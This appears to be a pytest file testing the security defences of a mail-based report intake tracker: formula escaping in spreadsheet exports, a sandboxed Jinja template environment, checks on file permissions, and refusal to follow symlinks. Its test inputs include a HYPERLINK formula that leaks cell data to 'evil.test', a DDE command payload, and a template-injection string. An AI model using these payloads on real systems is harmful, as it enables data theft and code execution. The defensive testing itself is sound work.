"""The small defences of issue 8: formula subjects in the export, sandboxed templates and
their folder, umask, secret files, plain-text mail servers, malformed database URLs,
symbolic links in the Maildir and the store, temp files of interrupted writes."""

from __future__ import annotations

import os
import stat
import subprocess
import sys
import time
from email.message import EmailMessage
from pathlib import Path

import pytest
from click.testing import CliRunner
from jinja2.exceptions import SecurityError

from intake.mailbox import MaildirSource
from intake.store import AttachmentStore, StorePathError, StoreSymlinkError
from tests.evidence_mail import ROSTER, workspace
from tracker.app import App
from tracker.check import check_all
from tracker.cli import main
from tracker.config import load_config
from tracker.outgoing.emails import _environment
from tracker.samples import photo

ROOT = Path(__file__).resolve().parent.parent
FORMULA = '=HYPERLINK("http://evil.test/?leak="&A1,"点击查看")'


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def report(subject: str, sender: str = "lyj.xtx@example.com", n: int = 1) -> bytes:
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "xtxgov@126.com"
    msg["Subject"] = subject
    msg["Date"] = "Tue, 16 May 2023 10:00:00 +0800"
    msg["Message-ID"] = f"<small-{n}@example.com>"
    msg.set_content("我局开展了主题日活动")
    msg.add_attachment(photo(n), maintype="image", subtype="jpeg", filename=f"{n}.jpg")
    return msg.as_bytes()


# --- export ---------------------------------------------------------------------------


def test_a_formula_subject_is_exported_as_text(tmp_path: Path, sqlite_url: str) -> None:
    from openpyxl import load_workbook

    config = workspace(tmp_path, sqlite_url, [report(FORMULA), report("+cmd|' /C calc'!A0", n=2)])
    assert run("--config", str(config), "poll", "--once")[0] == 0
    out = tmp_path / "2023.xlsx"
    code, _, err = run(
        "--config", str(config), "export", "--as-of", "2023-12-31", "--out", str(out)
    )
    assert code == 0, err
    cells = [
        cell
        for sheet in load_workbook(out).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+"))
    ]
    assert {c.value for c in cells} >= {FORMULA, "+cmd|' /C calc'!A0"}
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate


# --- templates --------------------------------------------------------------------------


def _override(tmp_path: Path, body: str) -> Path:
    folder = tmp_path / "templates"
    folder.mkdir(mode=0o755)
    (folder / "receipt.body.txt").write_text(body, encoding="utf-8")
    (folder / "receipt.body.txt").chmod(0o644)
    return folder


def test_an_override_template_cannot_reach_python(tmp_path: Path) -> None:
    folder = _override(tmp_path, "{{ ''.__class__.__mro__[1].__subclasses__() }}")
    _environment.cache_clear()
    with pytest.raises(SecurityError):
        _environment(str(folder)).get_template("receipt.body.txt").render({})
    assert _environment(str(folder)).is_safe_attribute("", "__class__", "") is False


@pytest.mark.parametrize("mode", [0o775, 0o757])
def test_a_template_folder_others_can_write_is_refused(tmp_path: Path, mode: int) -> None:
    folder = _override(tmp_path, "x")
    folder.chmod(mode)
    config = tmp_path / "c.toml"
    config.write_text(
        f'[mailbox]\ntype = "maildir"\npath = "M"\n[roster]\nfile = "{ROSTER}"\n'
        f'[templates]\ndir = "templates"\n'
    )
    code, _, err = run("--config", str(config), "status")
    assert code == 2
    assert err.strip() == (
        f"report-intake: error: [templates] dir: {folder} is writable by group or others; "
        "run chmod go-w on it"
    )


# --- secrets, plain text, database URL ------------------------------------------------


def _imap_config(tmp_path: Path, host: str, pw_mode: int, security: str = "ssl") -> Path:
    pw = tmp_path / "pw"
    pw.write_text("secret-code\n")
    pw.chmod(pw_mode)
    config = tmp_path / "c.toml"
    config.write_text(
        f'[mailbox]\nhost = "{host}"\nsecurity = "{security}"\nusername = "x@126.com"\n'
        f'password_file = "pw"\n[roster]\nfile = "{ROSTER}"\n'
    )
    return config


def test_a_secret_file_others_can_read_is_refused(tmp_path: Path) -> None:
    config = _imap_config(tmp_path, "imap.126.com", 0o644)
    code, _, err = run("--config", str(config), "status")
    assert code == 2
    assert err.strip() == (
        f"report-intake: error: [mailbox] password_file: {tmp_path / 'pw'} is readable by "
        "other users; run chmod o-rwx on it (600 is best)"
    )
    config = _imap_config(tmp_path, "imap.126.com", 0o640)
    assert load_config(config).mailbox.password == "secret-code"


def test_plain_text_to_another_host_warns(tmp_path: Path) -> None:
    config = load_config(_imap_config(tmp_path, "imap.126.com", 0o600, "none"))
    assert config.warnings == (
        '[mailbox] security = "none": the password and all mail cross the network to '
        "imap.126.com unencrypted; use ssl or starttls",
    )
    steps = check_all(_imap_config(tmp_path, "imap.126.com", 0o600, "none"))
    assert [next(steps).line.split(":")[0] for _ in range(2)] == ["config ok", "config WARNING"]
    for host in ("127.0.0.1", "localhost", "::1"):
        assert load_config(_imap_config(tmp_path, host, 0o600, "none")).warnings == ()


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("postgresql://intake:s3cret@db.example:notaport/intake", "not a valid database URL"),
        ("postgresql+nodriver://intake:s3cret@db.example/intake", "unknown database driver"),
    ],
)
def test_check_config_on_a_malformed_database_url_is_one_failed_line(
    tmp_path: Path, url: str, reason: str
) -> None:
    config = tmp_path / "c.toml"
    config.write_text(
        f'[mailbox]\ntype = "maildir"\npath = "M"\n[database]\nurl = "{url}"\n'
        f'[roster]\nfile = "{ROSTER}"\n'
    )
    code, out, err = run("--config", str(config), "check-config")
    assert code != 0
    lines = out.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"config FAILED: [database] url: {reason}")
    assert "s3cret" not in out + err and "Traceback" not in out + err


# --- umask ------------------------------------------------------------------------------


def test_the_command_line_creates_files_for_its_owner_only(tmp_path: Path) -> None:
    config = workspace(tmp_path, f"sqlite:///{tmp_path / 'db.sqlite3'}", [report("县林业局5月")])
    done = subprocess.run(
        [sys.executable, "-m", "tracker.cli", "--config", str(config), "poll", "--once"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        preexec_fn=lambda: os.umask(0o022),
    )
    assert done.returncode == 0, done.stderr
    created = [tmp_path / "db.sqlite3", *(p for p in (tmp_path / "data").rglob("*"))]
    assert len(created) > 5
    for path in created:
        assert stat.S_IMODE(path.lstat().st_mode) & 0o077 == 0, path


# --- symbolic links ---------------------------------------------------------------------


def test_a_symlink_in_the_maildir_is_never_read(tmp_path: Path, sqlite_url: str) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("From: root@example.com\nSubject: 县林业局5月\n\nthe server's secret\n")
    config = workspace(tmp_path, sqlite_url, [report("县林业局5月主题日")])
    (tmp_path / "Maildir" / "new" / "1700000000.evil.host").symlink_to(secret)
    (tmp_path / "Maildir" / "cur" / "1700000001.evil2.host:2,").symlink_to(secret)
    source = MaildirSource(tmp_path / "Maildir")
    source.open()
    fetched = list(source.fetch_since(0, batch=50, max_bytes=10**7))
    assert len(fetched) == 1 and b"secret" not in fetched[0].raw
    code, out, _ = run("--config", str(config), "poll", "--once")
    assert code == 0 and "1 fetched, 1 recorded" in out


def test_a_symlink_in_the_store_is_never_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    store = AttachmentStore(tmp_path / "store")
    raw = b"From: a@b.test\n\nx"
    import hashlib

    sha = hashlib.sha256(raw).hexdigest()
    (store.root / "raw").mkdir(parents=True)
    (store.root / "raw" / sha[:2]).symlink_to(outside)
    with pytest.raises(StoreSymlinkError):
        store.put_raw(raw)
    assert list(outside.iterdir()) == []
    # a link planted where a file goes is replaced, not written through
    target = outside / "victim"
    target.write_bytes(b"keep")
    (store.root / "raw" / sha[:2]).unlink()
    (store.root / "raw" / sha[:2]).mkdir()
    (store.root / "raw" / sha[:2] / f"{sha}.eml").symlink_to(target)
    stored = store.put_raw(raw)
    assert target.read_bytes() == b"keep"
    assert (store.root / stored.relpath).read_bytes() == raw
    (store.root / "files").symlink_to(outside)
    with pytest.raises(StorePathError):
        store.open_path("files/victim")


# --- temp files of interrupted writes -------------------------------------------------


def test_temp_files_of_interrupted_writes_are_swept_at_start(
    tmp_path: Path, sqlite_url: str
) -> None:
    config = workspace(tmp_path, sqlite_url, [])
    folder = tmp_path / "data" / "files" / "ab"
    folder.mkdir(parents=True)
    old = folder / ".tmp-x1y2.part"
    old.write_bytes(b"half a photo")
    hour_ago = time.time() - 7200
    os.utime(old, (hour_ago, hour_ago))
    fresh = folder / ".tmp-z3.part"  # another process may be writing it right now
    fresh.write_bytes(b"in progress")
    keep = folder / "abcd.jpg"
    keep.write_bytes(b"x")
    os.utime(keep, (hour_ago, hour_ago))
    app = App.from_path(config)
    try:
        app.store  # noqa: B018
    finally:
        app.close()
    assert not old.exists() and fresh.exists() and keep.exists()
